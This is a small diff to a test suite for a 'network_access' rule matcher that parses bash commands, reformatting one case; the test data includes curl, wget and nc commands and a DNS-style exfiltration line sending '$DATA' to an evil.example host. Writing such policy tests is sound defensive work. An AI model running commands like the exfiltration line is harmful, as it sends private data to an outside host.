@@ -220,7 +220,11 @@ describe('network_access', () => {
     [{ type: 'network_access', port: 443 }, 'curl https://a.example', true],
     [{ type: 'network_access', host: { equals: 'a.example' } }, 'wget a.example/x', true],
     [{ type: 'network_access', host: { matches: '^10[.]' } }, 'nc 10.0.0.1 80', true],
-    [{ type: 'network_access', host: { matches: '[.]evil[.]example$' } }, 'curl "https://$DATA.evil.example/"', 'call-uncertain'],
+    [
+      { type: 'network_access', host: { matches: '[.]evil[.]example$' } },
+      'curl "https://$DATA.evil.example/"',
+      'call-uncertain',
+    ],
     [{ type: 'network_access', host: { matches: '^10[.]' } }, 'curl "https://$H.example/"', 'call-uncertain'],
   ])('%j at %s: %s', (condition, command, truth) => expect(holds(condition, bash(command))).toBe(truth))
 })
